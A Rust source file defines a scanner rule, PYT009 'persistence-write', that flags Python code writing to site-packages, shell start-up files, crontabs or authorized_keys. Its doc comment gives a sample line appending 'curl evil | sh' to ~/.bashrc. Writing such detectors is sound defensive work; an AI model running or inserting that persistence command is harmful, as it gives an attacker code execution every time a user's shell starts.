//! ## What it does
//! Finds `open(..., "w"/"a")`, `Path.write_text`, `shutil.copy` and similar whose path mentions
//! site-packages (also through `site.getsitepackages()`), `sitecustomize`, shell start-up files (`~/.bashrc`,
//! `.profile`, `.zshrc`), crontabs or `authorized_keys`.
//!
//! ## Why is this bad?
//! This is how a one-time load becomes a permanent compromise: the code runs every time Python or a shell
//! starts, long after the model was deleted.
//!
//! ## Example
//! ```text
//! open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')   # critical
//! ```
//!
//! ## References
//! - MITRE ATT&CK T1546.004 (Unix shell configuration modification)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PYT009",
    name: "persistence-write",
    severity: Severity::Critical,
    summary: "writing to site-packages, .pth files or shell start-up files makes code run again later",
    path: "python/persistence_write",
};
